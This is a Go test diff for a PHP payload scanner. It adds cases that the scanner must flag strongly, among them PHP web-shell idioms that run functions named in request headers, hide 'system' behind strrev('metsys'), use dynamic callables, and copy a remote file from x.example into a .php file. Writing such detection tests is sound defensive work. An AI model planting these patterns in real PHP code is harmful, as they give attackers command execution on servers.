@@ -67,3 +67,23 @@ func TestDisguisedCommandsInLongValues(t *testing.T) {
 		}
 	}
 }
+
+// Code of PHP is no sample of a manual where it runs what a request names, in whatever way
+// it comes by the name.
+func TestSamplesRunNothing(t *testing.T) {
+	comment := "// " + strings.Repeat("a picture of our last holiday, ", 10) + "\n"
+	var s payload.Scanner
+	cases := []string{
+		"$h = getallheaders();\n$h['X-F']($h['X-A']);", "$h = getallheaders();\n($h['X-F'])($h['X-A']);", "$f = strrev('metsys');\n$f ('id');",
+		"$f = strrev('metsys');\n$f/* */('id');", "array_walk($a, strrev('metsys'));", "$o->{'a'}('id');", "$o->$f('id');", "A::$f('id');",
+		"array_walk($a, filter_input(INPUT_GET, 'f'));", "copy('https://x.example/a', 'a.php');", "ob_start(strrev('metsys'));",
+	}
+	for _, code := range cases {
+		if found := s.Scan("<?php\n\n"+comment+code+"\n", payload.Member); clue.Weight(found) < clue.Strong {
+			t.Errorf("%q: %s", code, names(found))
+		}
+	}
+	if len(cases) < 11 {
+		t.Errorf("only %d cases", len(cases))
+	}
+}
